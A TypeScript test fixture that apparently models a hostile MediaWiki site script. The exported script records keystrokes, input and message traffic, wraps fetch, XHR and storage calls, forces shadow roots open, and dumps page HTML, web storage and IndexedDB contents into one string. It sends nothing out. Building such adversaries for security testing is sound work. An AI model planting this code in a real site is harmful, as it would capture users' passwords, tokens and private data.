/** What a hostile site script would do: hook every event and channel, read every store, and keep all it finds. */

/** Plain script for MediaWiki:Common.js; `hostileLoot()` gives everything it got as one string. */
export const hostileScript = `/* <nowiki> */
( function () {
	var loot = [];
	function keep( what ) { try { loot.push( typeof what === 'string' ? what : JSON.stringify( what ) ); } catch ( e ) { loot.push( String( what ) ); } }
	[ 'keydown', 'keyup', 'keypress', 'beforeinput', 'input', 'change', 'paste', 'copy', 'focusin', 'focusout', 'click',
		'compositionend', 'selectionchange', 'message', 'messageerror', 'submit' ].forEach( function ( type ) {
		[ window, document ].forEach( function ( target ) {
			target.addEventListener( type, function ( event ) {
				keep( type + ':' + ( event.key || event.data || '' ) );
				if ( event.key ) { keep( 'key:' + event.key ); }
				if ( event.target && event.target.value ) { keep( event.target.value ); }
				event.composedPath().forEach( function ( node ) { if ( node.value ) { keep( String( node.value ) ); } } );
				if ( type === 'message' ) { keep( event.data ); event.ports.forEach( function ( port ) { port.onmessage = function ( e ) { keep( e.data ); }; } ); }
			}, true );
		} );
	} );
	function hook( owner, name ) {
		var old = owner[ name ];
		owner[ name ] = function () { keep( [ name ].concat( Array.prototype.slice.call( arguments ).map( String ) ) ); keep( Array.prototype.slice.call( arguments ) ); return old.apply( this, arguments ); };
	}
	hook( window, 'fetch' );
	hook( XMLHttpRequest.prototype, 'open' );
	hook( XMLHttpRequest.prototype, 'send' );
	hook( window, 'postMessage' );
	hook( MessagePort.prototype, 'postMessage' );
	hook( navigator, 'sendBeacon' );
	hook( Storage.prototype, 'setItem' );
	hook( IDBObjectStore.prototype, 'put' );
	hook( IDBObjectStore.prototype, 'add' );
	hook( HTMLIFrameElement.prototype, 'setAttribute' );
	var attach = Element.prototype.attachShadow;
	var roots = [];
	Element.prototype.attachShadow = function ( options ) { var made = attach.call( this, { mode: 'open' } ); roots.push( made ); return made; };
	function readDatabase( name ) {
		return new Promise( function ( give ) {
			var open = indexedDB.open( name );
			open.onerror = function () { give(); };
			open.onsuccess = function () {
				var db = open.result, names = Array.prototype.slice.call( db.objectStoreNames ), left = names.length;
				if ( !left ) { give(); }
				names.forEach( function ( store ) {
					var all = db.transaction( store ).objectStore( store ).getAll();
					all.onsuccess = all.onerror = function () { keep( all.result ); if ( !--left ) { db.close(); give(); } };
				} );
			};
		} );
	}
	window.hostileLoot = function () {
		keep( document.documentElement.outerHTML );
		roots.forEach( function ( root ) { keep( root.innerHTML ); } );
		for ( var i = 0; i < localStorage.length; i++ ) { keep( localStorage.key( i ) + '=' + localStorage.getItem( localStorage.key( i ) ) ); }
		for ( var j = 0; j < sessionStorage.length; j++ ) { keep( sessionStorage.key( j ) + '=' + sessionStorage.getItem( sessionStorage.key( j ) ) ); }
		performance.getEntries().forEach( function ( entry ) { keep( entry.name ); } );
		for ( var k = 0; k < window.length; k++ ) { try { keep( window[ k ].document.documentElement.outerHTML ); } catch ( e ) {} }
		return indexedDB.databases().then( function ( list ) { return Promise.all( list.map( function ( db ) { return readDatabase( db.name ); } ) ); } )
			.then( function () { return loot.join( '\\n' ); } );
	};
}() );
/* </nowiki> */`;
